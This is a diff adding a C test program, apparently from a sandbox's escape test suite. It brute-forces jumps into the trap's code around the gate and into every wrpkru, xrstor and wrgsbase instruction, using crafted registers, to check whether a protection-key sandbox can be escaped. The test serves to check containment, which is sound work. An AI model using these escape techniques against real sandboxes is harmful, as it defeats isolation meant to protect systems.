@@ -1,0 +1,143 @@
+/* SPDX-License-Identifier: MIT
+ *
+ * Jumps into kernel text, which a program under the resident trap can read: to every byte around the gate, and to every wrpkru, xrstor,
+ * wrgsbase and syscall in it, with registers and stack made for it: rows 3 and 5. Where there is no gate nothing is left to do.
+ */
+#include <setjmp.h>
+
+#include "escape.h"
+
+#define GATE_OFF (134217728 + 56) /* from %gs */
+
+static sigjmp_buf out;
+static unsigned char *gate, *low, *high;
+static uint64_t stack[2048] __attribute__((aligned(4096))), image[2048] __attribute__((aligned(4096)));
+
+
+/* The way back to program code: is the key open, or was a call answered by the host? */
+void landing(void);
+__asm__("landing:\n"
+	"	movabs $0x400000000000, %rcx\n"
+	"	mov (%rcx), %cl\n"
+	"	mov $60, %eax\n"
+	"	mov $77, %edi\n"
+	"	syscall\n"
+	"	ud2\n");
+
+static void
+on_fault(int sig)
+{
+	siglongjmp(out, 1);
+}
+
+static int
+readable(const volatile unsigned char *p)
+{
+	if (sigsetjmp(out, 1))
+		return 0;
+	(void)*p;
+	return 1;
+}
+
+static void
+find_text(void)
+{
+	signal(SIGSEGV, on_fault);
+	if (sigsetjmp(out, 1) == 0)
+		__asm__ volatile("mov %%gs:%c1, %0" : "=r"(gate) : "i"(GATE_OFF));
+	if (gate) {
+		low = high = (unsigned char *)((uintptr_t)gate & ~4095UL);
+		while (readable(low - 4096))
+			low -= 4096;
+		while (readable(high))
+			high += 4096;
+	}
+	signal(SIGSEGV, SIG_DFL);
+}
+
+static void __attribute__((noreturn))
+jump(const unsigned char *to, uint64_t rax, uint64_t rdx, uint64_t any)
+{
+	for (size_t i = 0; i < 2048; i++)
+		stack[i] = (uint64_t)(uintptr_t)landing;
+	stack[1024] = (uint64_t)(uintptr_t)to;
+	__asm__ volatile("mov %0, %%rsp; mov %1, %%rax; mov %2, %%rdx; mov %3, %%rdi; xor %%ecx, %%ecx\n\t"
+			 "mov %%rdi, %%rsi; mov %%rdi, %%rbx; mov %%rdi, %%rbp; mov %%rdi, %%r8; mov %%rdi, %%r9; mov %%rdi, %%r10\n\t"
+			 "mov %%rdi, %%r12; mov %%rdi, %%r13; mov %%rdi, %%r14; mov %%rdi, %%r15; ret"
+			 : : "r"(&stack[1024]), "r"(rax), "r"(rdx), "r"(any) : "memory");
+	__builtin_unreachable();
+}
+
+/* Returns ESCAPED if the child got through. */
+static int
+try_jump(const unsigned char *to, uint64_t rax, uint64_t rdx, uint64_t any)
+{
+	int status;
+	pid_t pid = fork();
+
+	if (pid == 0) {
+		alarm(1);
+		jump(to, rax, rdx, any);
+	}
+	return pid > 0 && waitpid(pid, &status, 0) == pid && WIFEXITED(status) && WEXITSTATUS(status) == 77;
+}
+
+static int
+every_byte_of_the_gate(void)
+{
+	for (int i = -256; gate && i < 768; i++)
+		if (gate + i >= low && gate + i < high && try_jump(gate + i, 0, 0, (uint64_t)(uintptr_t)image)) {
+			dprintf(1, "byte %d\n", i);
+			return ESCAPED;
+		}
+	return CONTAINED;
+}
+
+static int
+every_place(const volatile unsigned char *want, uint64_t rax, uint64_t any)
+{
+	for (unsigned char *p = low; gate && p + 4 < high; p++) {
+		if (p[0] != 0x0f || p[1] != want[0] || (want[1] && (p[2] & want[1]) != want[2]))
+			continue;
+		for (int back = 0; back < 3; back++) /* with its prefixes, and without */
+			if (try_jump(p - back, rax, 0, any)) {
+				dprintf(1, "offset %lx\n", (unsigned long)(p - low));
+				return ESCAPED;
+			}
+	}
+	return CONTAINED;
+}
+
+static int
+every_wrpkru(void)
+{
+	return every_place((const unsigned char[]){ 0x01, 0xff, 0xef }, 0, (uint64_t)(uintptr_t)image);
+}
+
+static int
+every_xrstor(void)
+{
+	return every_place((const unsigned char[]){ 0xae, 0x38, 0x28 }, 0x200, (uint64_t)(uintptr_t)image);
+}
+
+static int
+every_wrgsbase(void)
+{
+	for (uint64_t slot = 0; slot < 4; slot++)
+		if (every_place((const unsigned char[]){ 0xae, 0xf8, 0xd8 }, SCRATCH + slot * 4096, SCRATCH + slot * 4096))
+			return ESCAPED;
+	return CONTAINED;
+}
+
+int
+main(void)
+{
+
+	find_text();
+	printf("%lu bytes of kernel text found\n", (unsigned long)(high - low));
+	A(every_byte_of_the_gate);
+	A(every_wrpkru);
+	A(every_xrstor);
+	A(every_wrgsbase);
+	return escaped;
+}
